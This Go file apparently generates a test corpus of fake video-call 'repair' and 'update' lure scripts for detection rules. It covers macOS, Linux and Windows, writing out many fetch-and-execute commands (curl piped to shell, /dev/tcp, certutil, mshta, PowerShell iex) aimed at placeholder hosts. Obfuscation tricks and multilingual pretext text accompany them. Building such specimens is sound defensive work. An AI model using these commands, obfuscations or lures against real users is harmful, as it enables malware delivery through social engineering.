package specimens

import (
	"encoding/base32"
	"encoding/hex"
	"fmt"
	"strings"
)

// unseen makes lures that no report describes: other tools, other paddings,
// other ways to hide text, other languages of the pretext, other brands and
// other stories. What the rules find here is what they find next year.
func (b *kit) unseen() {
	b.unixTools()
	b.windowsTools()
	b.oddPaddings()
	b.oddHidings()
	b.languages()
	b.brands()
	b.stories()
}

func (b *kit) unixTools() {
	h := func(i int) string { return host(fmt.Sprintf("call-helper%d", i)) }
	tools := []struct{ name, cmd string }{
		{"wget to python", "wget -qO- https://%s/p | python3"},
		{"nscurl", "nscurl -o /tmp/.n https://%s/n && sh /tmp/.n"},
		{"python urllib", "python3 -c \"import urllib.request as u;exec(u.urlopen('https://%s/p').read())\""},
		{"python requests", "python3 -c \"import requests;exec(requests.get('https://%s/p').text)\""},
		{"perl", "perl -MHTTP::Tiny -e 'eval HTTP::Tiny->new->get(\"https://%s/p\")->{content}'"},
		{"perl backticks", "perl -e 'eval `curl -s https://%s/p`'"},
		{"ruby", "ruby -ropen-uri -e 'eval URI.open(\"https://%s/r\").read'"},
		{"node", "node -e \"require('https').get('https://%s/n',r=>{let d='';r.on('data',c=>d+=c).on('end',()=>eval(d))})\""},
		{"php", "php -r 'eval(file_get_contents(\"https://%s/x\"));'"},
		{"process substitution", "bash <(curl -s https://%s/b)"},
		{"source", "source <(curl -s https://%s/b)"},
		{"command substitution", "sh -c \"$(curl -fsSL https://%s/i)\""},
		{"eval", "eval \"$(wget -qO- https://%s/i)\""},
		{"here string", "zsh <<< \"$(curl -s https://%s/z)\""},
		{"dot", "curl -s https://%s/d > /tmp/.d; . /tmp/.d"},
		{"dev tcp", "exec 3<>/dev/tcp/%s/80; printf 'GET /s HTTP/1.0\\r\\n\\r\\n' >&3; sed '1,/^\\r$/d' <&3 | bash"},
		{"netcat", "nc %s 4444 | bash"},
		{"ssh", "ssh -o StrictHostKeyChecking=no guest@%s cat fix.sh | bash"},
		{"scp", "scp -q guest@%s:fix.sh /tmp/fix.sh && bash /tmp/fix.sh"},
		{"dns text", "dig +short TXT fix.%s | tr -d '\"' | base64 -d | bash"},
		{"git clone", "git clone -q https://%s/sdk.git /tmp/.sdk && bash /tmp/.sdk/install.sh"},
		{"disk image", "curl -s -o /tmp/s.dmg https://%s/s.dmg && hdiutil attach -quiet -nobrowse /tmp/s.dmg && /Volumes/Setup/Setup.app/Contents/MacOS/Setup"},
		{"osascript JXA", "osascript -l JavaScript -e \"$(curl -s https://%s/j)\""},
		{"osascript URL", "curl -s https://%s/o | osascript -"},
		{"xargs", "curl -s https://%s/x | xargs -0 sh -c"},
		{"tee", "curl -s https://%s/t | tee /tmp/.t | sh"},
		{"deno", "deno run -A https://%s/d.ts"},
		{"aria2", "aria2c -q -d /tmp -o .a https://%s/a && chmod 755 /tmp/.a && /tmp/.a"},
		{"at job", "curl -s https://%s/at -o /tmp/.q; echo 'sh /tmp/.q' | at now + 1 minute"},
		{"background copy", "(curl -s https://%s/b -o $TMPDIR/h && chmod +x $TMPDIR/h && nohup $TMPDIR/h &) >/dev/null 2>&1"},
	}
	for i, t := range tools {
		name := []string{"Camera Fix.command", "meeting-audio.sh", "call_update.command", "microphone_repair.sh"}[i%4]
		platform := "macos"
		if i%4 == 1 || i%4 == 3 {
			platform = "linux"
		}
		b.script("unseen-tool", platform, "shell", t.name, name, lines("#!/bin/bash", "# Repairs the camera and the microphone for the video call.", "clear", `echo "Repairing your microphone, please wait..."`, fmt.Sprintf(t.cmd, h(i)), `echo "Finished. Rejoin the call."`))
	}
	b.script("unseen-tool", "macos", "jxa", "osascript JXA", "Zoom Update.js", lines("#!/usr/bin/env osascript -l JavaScript", "// Zoom update for macOS", "const app = Application.currentApplication()", "app.includeStandardAdditions = true",
		"app.doShellScript('curl -s https://"+h(40)+"/j | zsh')", "app.displayDialog('Zoom is up to date.')"))
	b.script("unseen-tool", "macos", "jxa", "JXA Objective-C", "TeamsUpdate.jxa", lines("#!/usr/bin/osascript -l JavaScript", "// Microsoft Teams SDK update", "ObjC.import('Foundation')",
		"const d = $.NSData.dataWithContentsOfURL($.NSURL.URLWithString('https://"+h(41)+"/x'))", "const s = $.NSString.alloc.initWithDataEncoding(d, 4)", "eval(ObjC.unwrap(s))"))
	b.script("unseen-tool", "macos", "applescript", "Terminal do script", "Zoom Camera Fix.scpt", lines("-- Zoom camera fix: press Run", `tell application "Terminal"`, "	activate", `	do script "curl -s https://`+h(42)+`/f | zsh; exit" in window 1`, "end tell"))
	b.script("unseen-tool", "macos", "applescript", "NSTask", "Webex Repair.scpt", lines("-- Webex audio repair", `use framework "Foundation"`, "use scripting additions", `set src to current application's NSString's stringWithContentsOfURL:(current application's NSURL's URLWithString:"https://`+h(43)+`/n") encoding:4 |error|:(missing value)`, "run script (src as text)"))
	b.script("unseen-tool", "macos", "applescript", "chevron events", "Teams Update.scpt", lines("-- Teams update: press the Run button", "«event sysoexec» \"curl -s https://"+h(44)+"/e | sh\""))
	b.script("unseen-tool", "macos", "applescript", "URL Access Scripting", "Meeting Codec.applescript", lines("-- codec for the meeting: press Run", `set f to "/tmp/.codec.scpt"`, `tell application "URL Access Scripting" to download "https://`+h(45)+`/c" to f replacing yes`, "run script (POSIX file f)"))
	b.script("unseen-tool", "linux", "python", "python program", "zoom_camera_fix.py", lines("#!/usr/bin/env python3", `"""Zoom camera fix: repairs the camera driver before your meeting."""`, "import subprocess, urllib.request", `print("Repairing Zoom camera driver ...")`,
		`code = urllib.request.urlopen("https://`+h(46)+`/c").read()`, "exec(compile(code, 'fix', 'exec'))"))
	b.script("unseen-tool", "linux", "python", "python temp file", "teams_audio.py", lines("# Microsoft Teams audio repair", "import os, requests, subprocess, tempfile", `r = requests.get("https://`+h(47)+`/bin", verify=False)`,
		`p = os.path.join(tempfile.gettempdir(), "audiod")`, "open(p, 'wb').write(r.content)", "os.chmod(p, 0o755)", "subprocess.Popen([p])"))
	b.script("unseen-tool", "macos", "shell", "terminal settings", "Zoom Fix.terminal", lines(`<?xml version="1.0" encoding="UTF-8"?>`, `<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">`, `<plist version="1.0"><dict><key>CommandString</key>`,
		"<string>curl -s https://"+h(48)+"/t | zsh</string>", "<key>RunCommandAsShell</key><true/><key>name</key><string>Zoom Fix</string><key>type</key><string>Window Settings</string></dict></plist>"))
}

func (b *kit) windowsTools() {
	h := func(i int) string { return host(fmt.Sprintf("call-tools%d", i)) }
	batch := []struct{ name, cmd string }{
		{"certutil", "certutil -urlcache -split -f https://%s/a.exe %%TEMP%%\\a.exe & %%TEMP%%\\a.exe"},
		{"bitsadmin", "bitsadmin /transfer fix /download /priority foreground https://%s/b.exe %%TEMP%%\\b.exe & start %%TEMP%%\\b.exe"},
		{"regsvr32", "regsvr32 /s /n /u /i:https://%s/s.sct scrobj.dll"},
		{"msiexec", "msiexec /q /i https://%s/m.msi"},
		{"rundll32", "curl -s -o %%TEMP%%\\c.dll https://%s/c.dll && rundll32 %%TEMP%%\\c.dll,Start"},
		{"rundll32 javascript", "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();GetObject(\"script:https://%s/x\")"},
		{"wmic", "wmic os get /format:\"https://%s/w.xsl\""},
		{"WebDAV", "net use z: \\\\%s@SSL\\DavWWWRoot & z:\\fix.exe"},
		{"share", "start \\\\%s\\pub\\fix.exe"},
		{"conhost", "conhost --headless powershell -c \"irm https://%s/c | iex\""},
		{"forfiles", "forfiles /p c:\\windows /m notepad.exe /c \"mshta https://%s/f\""},
		{"for loop", "for /f \"delims=\" %%%%i in ('curl -s https://%s/cmd') do %%%%i"},
		{"ftp", "echo get f.exe| ftp -A %s & f.exe"},
		{"scheduled task", "schtasks /create /f /tn MeetingFix /sc once /st 23:59 /tr \"mshta https://%s/t\" & schtasks /run /tn MeetingFix"},
		{"pipe to cmd", "curl -s https://%s/p | cmd"},
	}
	for i, t := range batch {
		name := []string{"AudioRepair.bat", "meeting_fix.cmd", "camera-driver.bat"}[i%3]
		b.script("unseen-tool", "windows", "batch", t.name, name, "@echo off\r\nrem Repairs the microphone for your video call\r\necho Repairing microphone, please wait...\r\n"+fmt.Sprintf(t.cmd, h(i))+"\r\n")
	}
	power := []struct{ name, cmd string }{
		{"BITS", "Start-BitsTransfer -Source https://%s/a.exe -Destination $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe"},
		{"HttpClient", "$c = [System.Net.Http.HttpClient]::new(); iex $c.GetStringAsync('https://%s/h').Result"},
		{"script block", "[scriptblock]::Create((irm https://%s/s)).Invoke()"},
		{"Add-Type", "Add-Type -TypeDefinition (iwr https://%s/t.cs -UseBasicParsing).Content; [T]::Main()"},
		{"assembly", "$b = (New-Object Net.WebClient).DownloadData('https://%s/l.dll'); [Reflection.Assembly]::Load($b).EntryPoint.Invoke($null,$null)"},
		{"XMLHTTP", "$x = New-Object -ComObject MSXML2.XMLHTTP; $x.open('GET','https://%s/x',$false); $x.send(); iex $x.responseText"},
		{"dns text", "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String((Resolve-DnsName -Type TXT fix.%s).Strings -join '')))"},
		{"call operator", "& ([scriptblock]::Create([Net.WebClient]::new().DownloadString('https://%s/c')))"},
		{"curl.exe", "curl.exe -s https://%s/u.exe -o \"$env:APPDATA\\u.exe\"; & \"$env:APPDATA\\u.exe\""},
		{"Expand and run", "iwr https://%s/z.zip -OutFile $env:TEMP\\z.zip; Expand-Archive $env:TEMP\\z.zip $env:TEMP\\z -Force; & $env:TEMP\\z\\run.bat"},
	}
	for i, t := range power {
		b.script("unseen-tool", "windows", "powershell", t.name, []string{"repair-camera.ps1", "call-audio.ps1"}[i%2], "# Repairs the camera for your video call\r\nWrite-Host 'Repairing camera driver...'\r\n"+fmt.Sprintf(t.cmd, h(20+i))+"\r\n")
	}
	b.script("unseen-tool", "windows", "wsf", "windows script file", "MeetingUpdate.wsf", "<job><script language=\"JScript\">\r\n// meeting update\r\nnew ActiveXObject('WScript.Shell').Run('mshta https://"+h(40)+"/w', 0);\r\n</script></job>\r\n")
	b.script("unseen-tool", "windows", "jscript", "eval of a response", "CameraFix.js", "var x = new ActiveXObject('WinHttp.WinHttpRequest.5.1');\r\nx.Open('GET', 'https://"+h(41)+"/j', false); x.Send();\r\nnew Function(x.ResponseText)();\r\n")
	b.script("unseen-tool", "windows", "vbscript", "Execute of a response", "AudioFix.vbs", "Set x = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\r\nx.Open \"GET\", \"https://"+h(42)+"/v\", False\r\nx.Send\r\nExecuteGlobal x.ResponseText\r\n")
}

func (b *kit) oddPaddings() {
	for i, pad := range oddPaddings {
		h := host(fmt.Sprintf("padhost%d", i))
		b.script("unseen-padding", "macos", "applescript", pad.name, "Meeting Component.scpt", "-- Component update. Press Run to go on.\n"+pad.text("--")+"do shell script \"curl -s https://"+h+"/a | sh\"\n")
		b.script("unseen-padding", "macos", "shell", pad.name, "component_update.command", "#!/bin/zsh\n# Component update for calls\necho 'Updating component...'\n"+pad.text("#")+"curl -s https://"+h+"/s | zsh\n")
		if pad.name != "blank lines CR" {
			b.script("unseen-padding", "windows", "powershell", pad.name, "component.ps1", "# Component update for calls\r\nWrite-Host 'Updating component...'\r\n"+pad.text("#")+"iex (irm https://"+h+"/p)\r\n")
		}
	}
	wide := strings.Repeat(" ", 900)
	h := host("widehost")
	b.script("unseen-padding", "macos", "shell", "blanks in a line", "Join Call.command", "#!/bin/zsh\necho 'Joining the call...'"+wide+"; curl -s https://"+h+"/w | zsh\n")
	b.script("unseen-padding", "macos", "applescript", "blanks in a line", "Join Call.scpt", "display notification \"Joining the call\""+wide+"\n"+wide+"do shell script \"curl -s https://"+h+"/w | zsh\"\n")
	b.script("unseen-padding", "windows", "batch", "blanks in a line", "JoinCall.bat", "@echo off & echo Joining the call..."+wide+"& mshta https://"+h+"/w\r\n")
}

func (b *kit) oddHidings() {
	cmd := func(i int) string { return "curl -s https://" + host(fmt.Sprintf("hid%d", i)) + "/h | bash" }
	shell := []struct {
		name string
		hide func(string) string
	}{
		{"base64 twice", func(c string) string { return "echo " + b64(b64(c)) + " | base64 -d | base64 -d | sh" }},
		{"base64 reversed", func(c string) string { return "echo " + reverse(b64(c)) + " | rev | base64 -d | sh" }},
		{"base32", func(c string) string {
			return "echo " + base32.StdEncoding.EncodeToString([]byte(c)) + " | base32 -d | sh"
		}},
		{"openssl base64", func(c string) string { return "echo '" + b64(c) + "' | openssl enc -base64 -d -A | sh" }},
		{"hex in python", func(c string) string {
			return "python3 -c \"import os;os.system(bytes.fromhex('" + hex.EncodeToString([]byte(c)) + "').decode())\""
		}},
		{"base64 in python", func(c string) string {
			return "python3 - <<'E'\nimport base64,os\nos.system(base64.b64decode('" + b64(c) + "').decode())\nE"
		}},
		{"perl pack", func(c string) string {
			return "perl -e 'system(pack(\"H*\",\"" + hex.EncodeToString([]byte(c)) + "\"))'"
		}},
		{"marks removed by sed", func(c string) string {
			return "eval \"$(echo '" + each(c, "", func(r rune) string { return string(r) + "@" }) + "' | sed 's/@//g')\""
		}},
		{"alphabet rotated by tr", func(c string) string {
			return "echo '" + strings.ToUpper(c) + "' | tr 'A-Z' 'a-z' | sh"
		}},
		{"wildcards", func(c string) string {
			return strings.Replace(c, "curl", "/usr/bin/c?rl", 1)
		}},
		{"IFS", func(c string) string {
			return "eval " + strings.ReplaceAll(strings.ReplaceAll(c, " ", "${IFS}"), "|", `\|`)
		}},
		{"behind the script", func(c string) string { return "tail -n 1 \"$0\" | base64 -d | bash; exit\n" + b64(c) }},
		{"here document", func(c string) string { return "base64 -d <<E | sh\n" + b64(c) + "\nE" }},
		{"backslashes", func(c string) string { return strings.NewReplacer("curl", `c\u\r\l`, "bash", `b\a\s\h`).Replace(c) }},
		{"array", func(c string) string {
			return "a=(" + strings.Join(quoteAll(strings.Fields(c)), " ") + "); eval \"${a[*]}\""
		}},
		{"awk", func(c string) string { return "awk 'BEGIN{system(\"" + c + "\")}'" }},
	}
	for i, s := range shell {
		b.script("unseen-hiding", "macos", "shell", s.name, []string{"Meeting Setup.command", "webinar.sh"}[i%2], lines("#!/bin/bash", "# prepares the webinar", `echo "Preparing..."`)+s.hide(cmd(i))+"\n", cmd(i))
	}
	irm := func(i int) string { return "iex (irm https://" + host(fmt.Sprintf("psh%d", i)) + "/h)" }
	power := []struct {
		name string
		hide func(string) string
	}{
		{"gzip", func(c string) string {
			return "$s = New-Object IO.MemoryStream(,[Convert]::FromBase64String('" + gzip64(c) + "')); iex (New-Object IO.StreamReader((New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress)))).ReadToEnd()"
		}},
		{"xor", func(c string) string {
			return "$x = " + each(c, ",", func(r rune) string { return fmt.Sprint(int(r) ^ 0x2a) }) + "; iex (-join ($x | % { [char]($_ -bxor 42) }))"
		}},
		{"hex", func(c string) string {
			return "$h = '" + hex.EncodeToString([]byte(c)) + "'; iex (-join (0..($h.Length/2-1) | % { [char][Convert]::ToByte($h.Substring($_*2,2),16) }))"
		}},
		{"UTF-16 base64", func(c string) string {
			return "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('" + b64(string(utf16le(c))) + "')))"
		}},
		{"split", func(c string) string {
			return "iex ('" + each(c, "_", func(r rune) string { return string(r) }) + "'.Split('_') -join '')"
		}},
		{"alias", func(c string) string {
			return "sal q ('ie'+'x'); $u = 'https://' + 'psh4' + '.inv' + 'alid/h'; q (irm $u)"
		}},
		{"environment", func(c string) string { return "&($env:ComSpec[4,15,25] -join '') (irm https://" + host("psh5") + "/h)" }},
	}
	for i, p := range power {
		b.script("unseen-hiding", "windows", "powershell", p.name, []string{"webinar.ps1", "meeting-setup.ps1"}[i%2], "# prepares the webinar\r\n"+p.hide(irm(i))+"\r\n", irm(i))
	}
	c := "curl -s https://" + host("apl0") + "/h | sh"
	b.script("unseen-hiding", "macos", "applescript", "text item delimiters", "Webinar.scpt", lines("-- prepares the webinar", `set AppleScript's text item delimiters to "#"`, "set p to text items of "+appleText(each(c, "#", func(r rune) string { return string(r) })),
		`set AppleScript's text item delimiters to ""`, "do shell script (p as text)"), c)
	c = "curl -s https://" + host("apl1") + "/h | sh"
	b.script("unseen-hiding", "macos", "applescript", "base64 in run script", "Webinar Setup.scpt", lines("-- prepares the webinar", "run script (do shell script \"echo "+b64("do shell script "+appleText(c))+" | base64 -D\")"), c)
	c = "curl -s https://" + host("apl2") + "/h | sh"
	b.script("unseen-hiding", "macos", "applescript", "list", "Join Webinar.applescript", lines("-- prepares the webinar", "set w to {"+strings.Join(quoteAll(strings.Fields(c)), ", ")+"}", `set o to ""`, "repeat with x in w", `	set o to o & x & " "`, "end repeat", "do shell script o"), c)
	b.script("unseen-hiding", "windows", "batch", "certutil -decode of itself", "webinar.bat", "@echo off\r\ncertutil -decode \"%~f0\" %TEMP%\\w.bat >nul & call %TEMP%\\w.bat & exit /b\r\n-----BEGIN CERTIFICATE-----\r\n"+b64("mshta https://"+host("bat0")+"/h")+"\r\n-----END CERTIFICATE-----\r\n")
	b.script("unseen-hiding", "windows", "batch", "batch and PowerShell", "meeting-setup.cmd", "<# :\r\n@echo off\r\npowershell -nop -w hidden -c \"iex ((gc '%~f0') -join [char]10)\"\r\nexit /b\r\n#>\r\niex (irm https://"+host("bat1")+"/h)\r\n")
	vb := "mshta https://" + host("vbs0") + "/h"
	b.script("unseen-hiding", "windows", "vbscript", "hex loop", "webinar.vbs", "h = \""+hex.EncodeToString([]byte(vb))+"\"\r\nFor i = 1 To Len(h) Step 2\r\n  s = s & Chr(CLng(\"&H\" & Mid(h, i, 2)))\r\nNext\r\nCreateObject(\"WScr\" & \"ipt.Shell\").Run s, 0\r\n", vb)
	vb = "mshta https://" + host("vbs1") + "/h"
	b.script("unseen-hiding", "windows", "vbscript", "Execute", "setup.vbs", "Execute StrReverse("+vbText(reverse(`CreateObject("WScript.Shell").Run "`+vb+`", 0`))+")\r\n", vb)
}

// languages tells the story of the repair in other languages.
func (b *kit) languages() {
	stories := []struct{ tongue, file, note, say string }{
		{"German", "Zoom Audio Reparatur", "Zoom-Audioreparatur: Ihr Mikrofon ist blockiert. Klicken Sie auf Ausführen, um den Treiber zu aktualisieren.", "Treiber wird aktualisiert"},
		{"French", "Mise à jour Teams", "Mise à jour du SDK Microsoft Teams : votre version est obsolète. Cliquez sur Exécuter pour réparer le son.", "Réparation en cours"},
		{"Spanish", "Reparar cámara Zoom", "Actualización de Zoom: su cámara no funciona. Pulse Ejecutar para reparar el controlador.", "Reparando la cámara"},
		{"Portuguese", "Corrigir áudio Teams", "Correção de áudio do Microsoft Teams: o microfone está bloqueado. Clique em Executar para atualizar.", "Atualizando o driver de áudio"},
		{"Italian", "Aggiornamento Zoom", "Aggiornamento di Zoom: il microfono non funziona. Premere Esegui per riparare il driver.", "Riparazione in corso"},
		{"Russian", "Обновление Zoom", "Обновление Zoom: микрофон заблокирован. Нажмите «Выполнить», чтобы обновить драйвер.", "Обновление драйвера"},
		{"Japanese", "Zoom更新", "Zoom SDK の更新: マイクが使用できません。実行ボタンを押してドライバーを修復してください。", "ドライバーを修復しています"},
		{"Korean", "줌 오디오 수정", "Zoom 오디오 복구: 마이크가 차단되었습니다. 실행 버튼을 눌러 드라이버를 업데이트하세요.", "드라이버 업데이트 중"},
		{"Chinese", "Zoom 音频修复", "Zoom 音频修复：您的麦克风已被阻止。请点击运行以更新驱动程序。", "正在更新驱动程序"},
		{"Turkish", "Zoom Güncelleme", "Zoom güncellemesi: mikrofonunuz engellendi. Sürücüyü onarmak için Çalıştır düğmesine basın.", "Sürücü güncelleniyor"},
		{"Polish", "Naprawa dźwięku Teams", "Naprawa dźwięku Microsoft Teams: mikrofon jest zablokowany. Kliknij Uruchom, aby zaktualizować sterownik.", "Aktualizowanie sterownika"},
		{"Vietnamese", "Sửa âm thanh Zoom", "Sửa âm thanh Zoom: micrô bị chặn. Nhấn Chạy để cập nhật trình điều khiển.", "Đang cập nhật trình điều khiển"},
	}
	for i, s := range stories {
		h := host(fmt.Sprintf("lang%d", i))
		b.script("unseen-language", "macos", "applescript", s.tongue, s.file+".scpt", "-- "+s.note+"\n\ndo shell script \"curl -s https://"+h+"/a | sh\"\n")
		if i%2 == 0 {
			b.script("unseen-language", "macos", "shell", s.tongue, s.file+".command", lines("#!/bin/zsh", "# "+s.note, "echo '"+s.say+"...'", "curl -s https://"+h+"/s | zsh"))
		} else {
			b.script("unseen-language", "windows", "powershell", s.tongue, s.file+".ps1", "\ufeff# "+s.note+"\r\nWrite-Host '"+s.say+"...'\r\niex (irm https://"+h+"/p)\r\n")
		}
	}
}

// brands uses brands that campaigns did not use, and some that do not exist.
func (b *kit) brands() {
	for i, brand := range []string{"RingCentral", "Lark", "Whereby", "GoTo Meeting", "Jitsi Meet", "Zoho Meeting", "DingTalk", "VooV Meeting", "BigBlueButton", "Amazon Chime", "Google Meet", "Discord",
		"MeetFlow", "Talkora", "ClearCall", "Confero"} {
		h := host(fmt.Sprintf("brand%d", i))
		file := strings.ReplaceAll(brand, " ", "")
		b.script("unseen-brand", "macos", "applescript", "plain", brand+" Update.scpt", lines("-- "+brand+" update", "-- Your "+brand+" client is out of date. Press Run to update it before the meeting.", "", "do shell script \"curl -fsSL https://"+h+"/u | bash\""))
		if i%2 == 0 {
			b.script("unseen-brand", "windows", "powershell", "plain", file+"Setup.ps1", "# "+brand+" meeting client setup\r\nWrite-Host 'Updating "+brand+" ...'\r\nInvoke-WebRequest https://"+h+"/s.exe -OutFile $env:TEMP\\s.exe; Start-Process $env:TEMP\\s.exe\r\n")
		} else {
			b.script("unseen-brand", "linux", "shell", "plain", strings.ToLower(file)+"-fix.sh", lines("#!/bin/sh", "# "+brand+": repairs the microphone in meetings", "wget -qO- https://"+h+"/l | sh"))
		}
	}
}

// stories are pretexts of other kinds: not a repair, but something one wants.
func (b *kit) stories() {
	list := []struct{ file, note string }{
		{"Watch Recording", "Opens the recording of the meeting that you missed."},
		{"Live Captions", "Live captions and translation for your meetings."},
		{"Virtual Background", "Virtual background pack for video calls."},
		{"Meeting Certificate", "Installs the certificate for end-to-end encrypted calls."},
		{"Waiting Room", "The host has enabled a secure waiting room. This confirms that you are human."},
		{"Board Meeting Viewer", "Viewer for the board meeting's shared documents."},
		{"Voice Test", "Voice test before the interview."},
		{"Webinar Pass", "Activates your personal webinar pass."},
	}
	for i, s := range list {
		h := host(fmt.Sprintf("story%d", i))
		b.script("unseen-story", "macos", "applescript", "plain", s.file+".scpt", "-- "+s.note+"\ndo shell script \"curl -s https://"+h+"/a -o /tmp/.x && sh /tmp/.x\"\n")
		b.script("unseen-story", "macos", "shell", "plain", s.file+".command", lines("#!/bin/zsh", "# "+s.note, "curl -fsSL https://"+h+"/c | zsh"))
		b.script("unseen-story", "windows", "batch", "plain", strings.ReplaceAll(s.file, " ", "")+".bat", "@echo off\r\nrem "+s.note+"\r\npowershell -w hidden -c \"iwr https://"+h+"/b.exe -OutFile $env:TEMP\\b.exe; saps $env:TEMP\\b.exe\"\r\n")
	}
}
